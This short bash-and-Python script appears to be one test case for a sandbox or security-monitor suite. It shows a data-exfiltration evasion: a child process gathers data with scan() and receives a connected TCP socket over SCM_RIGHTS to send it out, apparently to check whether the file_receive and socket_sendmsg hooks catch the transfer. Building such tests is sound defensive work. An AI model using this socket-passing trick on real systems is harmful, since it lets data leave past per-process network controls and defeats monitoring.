#!/usr/bin/env bash
# technique: a connected socket is passed to a process that has read the scan (SCM_RIGHTS)
# hooks: file_receive, socket_sendmsg
# sink: private-tcp

. attack.sh
python3 - <<'PY'
from attack import *

ours, theirs = socket.socketpair()


def take():
    data = scan()
    _, fds, _, _ = socket.recv_fds(theirs, 1, 1)
    with socket.socket(fileno=fds[0]) as sink:
        sink.sendall(data)


taker = apart(take)
time.sleep(0.5)
with socket.create_connection(TCP, 5) as sink:
    sink.settimeout(None)
    socket.send_fds(ours, [b"-"], [sink.fileno()])
os.waitpid(taker, 0)
PY
